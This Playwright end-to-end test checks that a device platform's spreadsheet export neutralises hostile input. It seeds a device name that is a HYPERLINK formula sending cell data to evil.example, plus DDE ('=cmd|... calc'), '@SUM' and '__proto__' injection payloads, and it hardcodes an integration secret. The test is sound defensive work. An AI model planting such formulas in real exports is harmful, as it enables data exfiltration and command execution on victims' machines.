/**
 * Exports are inert, in Chromium against the sandbox: a time-series device named like a formula
 * whose readings hold formulas and a __proto__ key is exported; the file's name does not begin
 * with =, no cell of the .xlsx holds a formula, the formula texts carry a leading apostrophe and
 * the __proto__ column keeps its values.
 */
import { expect, test } from '@playwright/test';
import { readFileSync } from 'node:fs';
import * as XLSX from 'xlsx';
import { api, pickerField, typedDay } from './helpers';
import { storageStateOf } from './users';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
const REST_INTEGRATION = 3;
const REST_SECRET = 'swm-smartinterface-2024';
const COUNTER = { vendor: 'Telraam', deviceType: 'S2', firmware: '1.1' };

const localDay = (date: Date) =>
    `${date.getFullYear()}-${String(date.getMonth() + 1).padStart(2, '0')}-${String(date.getDate()).padStart(2, '0')}`;

test.describe('exports as system admin', () => {
    test.use({ storageState: storageStateOf('sysadmin') });

    test('a device named =HYPERLINK(...) with formula readings exports inert', async ({ page }) => {
        await page.goto('/dad/devices?organization_id=1');
        const deviceId = `E2E-INERT-${Date.now()}`;
        const onboarded = await api(page, 'POST', '/devices/onboard', {
            deviceList: [
                {
                    id: null,
                    deviceId,
                    name: HOSTILE_NAME,
                    tags: [],
                    integrationId: REST_INTEGRATION,
                    mapping: null,
                    organizationId: 1,
                    details: COUNTER,
                },
            ],
        });
        expect(onboarded.status).toBe(201);
        const id = (onboarded.body as { id: number }[])[0].id;
        try {
            expect((await api(page, 'PATCH', `/devices/${id}`, { isTSD: true })).status).toBe(200);
            for (const reading of [
                '{"__proto__":7,"constructor":"c","note":"=cmd|\' /C calc\'!A0","level":-5}',
                '{"__proto__":8,"note":"@SUM(1+1)","level":"-5"}',
            ]) {
                const response = await page.request.post(
                    `/smartcity/uplink/smartInterface/${deviceId}/key/${REST_SECRET}`,
                    { headers: { 'content-type': 'application/json' }, data: reading },
                );
                expect(response.status()).toBe(202);
            }

            await page.goto(`/dad/devices/device/export?id=${id}&organization_id=1`);
            await expect(
                page.getByRole('heading', { name: 'Export data', level: 1 }),
            ).toBeVisible();
            const today = new Date();
            const start = new Date(today);
            start.setDate(today.getDate() - 3);
            await pickerField(page, 'Start date').fill(typedDay(localDay(start)));
            await pickerField(page, 'End date').fill(typedDay(localDay(today)));
            const download = page.waitForEvent('download');
            await page.getByRole('button', { name: 'Export' }).click();
            const file = await download;

            expect(file.suggestedFilename()).toBe(
                `HYPERLINK(_http_evil.example_x=_&A1,_Open_)_${deviceId}_${localDay(start)}_${localDay(today)}.xlsx`,
            );
            const book = XLSX.read(readFileSync(await file.path()), { cellFormula: true });
            const sheet = book.Sheets[book.SheetNames[0]];
            const cells = Object.entries(sheet).filter(([address]) => !address.startsWith('!'));
            expect(cells.filter(([, cell]) => (cell as XLSX.CellObject).f !== undefined)).toEqual(
                [],
            );
            // Read as arrays: SheetJS's keyed rows would rename a __proto__ header themselves.
            const [header, ...rows] = XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1 });
            expect(header).toEqual(['time', '__proto__', 'constructor', 'note', 'level']);
            expect(rows.map(row => row[1])).toEqual([7, 8]);
            expect(rows.map(row => row[3])).toEqual(["'=cmd|' /C calc'!A0", "'@SUM(1+1)"]);
            // A number stays a number; the text "-5" gets the apostrophe.
            expect(rows.map(row => row[4])).toEqual([-5, "'-5"]);
            expect(sheet.E2).toMatchObject({ t: 'n', v: -5 });
            expect(sheet.D2).toMatchObject({ t: 's' });
        } finally {
            await api(page, 'DELETE', `/devices/${id}`);
        }
    });
});
